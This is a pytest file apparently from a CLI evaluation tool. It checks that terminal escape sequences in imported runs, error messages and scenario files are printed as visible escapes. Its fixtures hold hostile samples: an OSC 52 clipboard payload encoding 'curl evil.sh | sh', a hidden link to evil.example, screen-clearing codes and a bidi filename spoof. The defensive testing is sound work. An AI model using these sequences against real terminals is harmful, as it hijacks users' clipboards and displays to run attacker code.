"""Escape sequences from a sender or a model never reach the terminal raw: OSC 52
(clipboard write), OSC 8 (hidden link), screen clearing, CSI colour, the 8-bit C1 CSI and
bidi overrides are printed as visible escapes by every console output; JSON stays exact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from driftwatch.cli import app
from driftwatch.core.terminal import printable
from driftwatch.testing.fake_openai import FakeOpenAIServer, Fault

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # puts "curl evil.sh | sh" on the clipboard
OSC8 = "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J\x1b[3J\x1b[H"
CSI_C1 = "\x9b31m"
BIDI = "\u202egnp.exe"
ATTACKS = [OSC52, OSC8, CLEAR, CSI_C1, BIDI]
RAW = ("\x1b", "\x07", "\x9b", "\u202e")

MINIMAL = """\
id: tiny
description: A tiny scenario.
system_prompt: You are a test agent.
goal: Finish.
constraints:
  - id: be-nice
    text: Be nice.
first_message: Start.
tools: [read_file]
"""

runner = CliRunner()


def invoke(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


def assert_inert(text: str) -> None:
    assert not [c for c in RAW if c in text], repr(text)


@pytest.fixture
def hostile_db(tmp_path: Path) -> tuple[str, dict[str, str]]:
    """A store holding what a sender chose: run id, scenario id and model from an import."""
    values = {"run_id": "run-" + OSC52, "scenario_id": "sc" + CLEAR + BIDI,
              "model": "m/" + OSC8 + CSI_C1}
    line = {"id": values["run_id"], "scenario_id": values["scenario_id"],
            "model": values["model"],
            "messages": [{"role": "user", "content": "hi"},
                         {"role": "assistant", "content": "ok " + OSC52}]}
    source = tmp_path / "hostile.jsonl"
    source.write_text(json.dumps(line) + "\n")
    db = str(tmp_path / "h.duckdb")
    code, out, err = invoke("import", "openai-jsonl", str(source), "--db", db)
    assert code == 0, err
    assert_inert(out)
    return db, values


QUERY = "select run_id, scenario_id, model from runs"


@pytest.mark.parametrize("fmt", ["table", "csv"])
def test_sql_table_and_csv_show_escapes_instead_of_obeying_them(
    hostile_db: tuple[str, dict[str, str]], fmt: str
) -> None:
    db, values = hostile_db
    code, out, _ = invoke("sql", QUERY, "--db", db, "--format", fmt)
    assert code == 0
    assert_inert(out)
    assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in out
    if fmt == "csv":
        [row] = list(csv.reader(io.StringIO(out)))[1:]
        assert row == [printable(values[key]) for key in ("run_id", "scenario_id", "model")]


def test_sql_json_stays_exact_json(hostile_db: tuple[str, dict[str, str]]) -> None:
    db, values = hostile_db
    code, out, _ = invoke("sql", QUERY, "--db", db, "--format", "json")
    assert code == 0
    assert_inert(out)  # json.dumps writes \u001b: nothing to escape, nothing altered
    assert json.loads(out) == [values]


def test_markdown_report_on_stdout_is_inert(hostile_db: tuple[str, dict[str, str]],
                                            tmp_path: Path) -> None:
    db, _ = hostile_db
    code, out, _ = invoke("report", "import-openai-jsonl-hostile", "--db", db, "--markdown",
                          "-", "-o", str(tmp_path / "r.html"))
    assert code == 0
    assert "sc\\x1b\\[2J" in out  # the Markdown escaping of "[" and ours, both visible
    assert_inert(out)
    assert "\n|" in out  # newlines of the layout are kept


def test_markdown_report_file_is_inert(hostile_db: tuple[str, dict[str, str]],
                                       tmp_path: Path) -> None:
    db, _ = hostile_db
    target = tmp_path / "r.md"
    code, _, _ = invoke("report", "import-openai-jsonl-hostile", "--db", db, "--markdown",
                        str(target), "-o", str(tmp_path / "r.html"))
    assert code == 0
    assert_inert(target.read_text())


def test_a_provider_error_in_the_run_summary_is_inert(tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """The provider's error text reaches `driftwatch run`'s summary line."""
    with FakeOpenAIServer([Fault.status(400, message="bad " + OSC52 + CLEAR)]) as server:
        monkeypatch.setenv("OPENAI_BASE_URL", server.base_url)
        monkeypatch.setenv("OPENAI_API_KEY", "test")
        code, out, err = invoke("run", "oversight-config", "--model", "openai/fake-model",
                                "--turns", "1", "--db", str(tmp_path / "r.duckdb"), "-q")
    assert code == 1
    assert "error: model openai/fake-model: failed: HTTP 400" in out
    assert "\\x1b]52;c;" in out
    assert_inert(out + err)


def test_an_error_line_quoting_a_file_is_inert(tmp_path: Path) -> None:
    path = tmp_path / "s.yaml"
    path.write_text(MINIMAL + '"\\e]52;c;aGk=\\a": 1\n')  # YAML escapes: ESC ... BEL
    code, _, err = invoke("scenarios", "validate", str(path))
    assert code == 2
    assert err.count("\n") == 1
    assert "\\x1b]52;c;aGk=\\x07" in err
    assert_inert(err)


def test_scenarios_show_keeps_lines_but_not_escapes(tmp_path: Path) -> None:
    path = tmp_path / "s.yaml"
    path.write_text(
        MINIMAL.replace("A tiny scenario.", '"two\\nlines \\e[2J"')
        .replace("text: Be nice.", 'text: "nice \\e]8;;https://x/\\e\\\\"'))
    code, out, err = invoke("scenarios", "show", str(path))
    assert code == 0, err
    assert "two\nlines \\x1b[2J" in out
    assert "be-nice: nice \\x1b]8;;https://x/\\x1b\\" in out
    assert_inert(out)


def test_the_replay_summary_is_inert(tmp_path: Path) -> None:
    """`replay` prints the run id, which comes from the recording."""
    line = {"id": "r" + OSC52, "messages": [{"role": "user", "content": "hi"},
                                            {"role": "assistant", "content": "ok"}]}
    source = tmp_path / "rec.jsonl"
    source.write_text(json.dumps(line) + "\n")
    code, out, err = invoke("replay", f"{source}#r{OSC52}", "--db", str(tmp_path / "p.duckdb"))
    assert code == 0, err
    assert_inert(out + err)


def test_printable_covers_every_c0_c1_and_del_but_keeps_layout() -> None:
    controls = "".join(map(chr, [*range(0x20), 0x7F, *range(0x80, 0xA0)]))
    assert printable(controls).isprintable()
    kept = printable(controls, multiline=True)
    assert kept.count("\n") == 1
    assert kept.count("\t") == 1
    assert kept.replace("\n", "").replace("\t", "").isprintable()
    assert printable("naïve — ok ✓") == "naïve — ok ✓"
